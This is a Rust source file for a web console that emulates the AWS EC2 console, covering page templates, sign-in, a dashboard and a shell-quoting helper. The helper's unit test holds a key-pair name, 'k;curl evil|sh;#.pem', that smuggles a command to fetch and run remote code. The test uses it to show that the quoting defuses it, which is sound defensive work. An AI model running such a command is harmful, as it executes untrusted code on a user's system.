//! The pages' templates (in `templates/console/`), and the dashboard.

use askama::Template;
use axum::http::StatusCode;
use axum::response::Response;

use super::session::Signed;
use super::{ConsoleRequest, call_ec2, render};
use crate::api::ec2::instances::DescribeInstances;
use crate::api::ec2::key_pairs::DescribeKeyPairs;
use crate::api::error::ApiError;
use crate::api::protocol::ec2_query::QueryParams;

/// What every signed-in page shares: the header's region selector and identity, the
/// sign-out form's CSRF token, and which navigation entry is open.
pub struct Shell {
    /// The page's region.
    pub region: String,
    /// Every region, for the selector.
    pub regions: Vec<&'static str>,
    /// Who is signed in.
    pub identity: String,
    /// The CSRF token every form carries.
    pub csrf: String,
    /// The open navigation entry.
    pub active: &'static str,
}

/// A refusal shown in place of a page's content: AWS's code and message.
pub struct Problem {
    /// AWS's error code.
    pub code: String,
    /// AWS's message.
    pub message: String,
    /// A denial (`UnauthorizedOperation`, `AccessDenied`), shown as AWS's console shows one.
    pub denied: bool,
}

impl From<ApiError> for Problem {
    fn from(e: ApiError) -> Self {
        let denied = matches!(e.code.as_ref(), "UnauthorizedOperation" | "AccessDenied" | "AccessDeniedException");
        Problem { code: e.code.to_string(), message: e.message, denied }
    }
}

#[derive(Template)]
#[template(path = "console/sign_in.html")]
pub struct SignIn {
    pub error: Option<String>,
    /// Which form is open: `key`, `password`, or `new-password` (a forced reset).
    pub mode: &'static str,
    /// The account and user of a forced reset.
    pub account: String,
    pub user: String,
}

impl SignIn {
    /// The sign-in page with `mode`'s form open.
    pub fn form(error: Option<String>, mode: &'static str) -> Self {
        SignIn { error, mode, account: String::new(), user: String::new() }
    }
}

#[derive(Template)]
#[template(path = "console/refused.html")]
pub struct Refused {
    pub message: String,
}

#[derive(Template)]
#[template(path = "console/not_found.html")]
pub struct NotFound {
    pub shell: Option<Shell>,
}

#[derive(Template)]
#[template(path = "console/dashboard.html")]
pub struct Dashboard {
    pub shell: Shell,
    pub key_pairs: Result<usize, Problem>,
    pub running: Result<usize, Problem>,
}

/// The EC2 dashboard: the region's key pairs and running instances, each counted by the
/// API call that lists them (so each is authorized, and shown as refused, on its own).
pub async fn dashboard(request: &ConsoleRequest<'_>, signed: &Signed) -> Response {
    let key_pairs = call_ec2::<DescribeKeyPairs>(request, signed, QueryParams::default()).await;
    let running = QueryParams::from_pairs([("Filter.1.Name", "instance-state-name"), ("Filter.1.Value.1", "running")]);
    let running = call_ec2::<DescribeInstances>(request, signed, running).await;
    let page = Dashboard {
        shell: Shell::new(request, signed, "dashboard"),
        key_pairs: key_pairs.map(|pairs| pairs.len()).map_err(Problem::from),
        running: running.map(|(rows, _, _)| rows.len()).map_err(Problem::from),
    };
    render(StatusCode::OK, &page)
}

impl Shell {
    /// True for the page's region (the selector's chosen option).
    pub fn is_region(&self, region: &str) -> bool {
        self.region == region
    }
}

/// `text` as one word for a POSIX shell, for the command lines the pages show: as it is when
/// it is plain, otherwise in single quotes. A key pair's name may hold any printable
/// character; a line pasted into a terminal must not run part of it.
pub fn shell_word(text: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "._-/@%+=:,".contains(c);
    if !text.is_empty() && text.chars().all(plain) {
        text.to_owned()
    } else {
        format!("'{}'", text.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::shell_word;

    #[test]
    fn names_become_one_shell_word() {
        assert_eq!(shell_word("web-1.pem"), "web-1.pem");
        assert_eq!(shell_word("k;curl evil|sh;#.pem"), "'k;curl evil|sh;#.pem'");
        assert_eq!(shell_word("it's.pem"), r"'it'\''s.pem'");
        assert_eq!(shell_word(""), "''");
    }
}
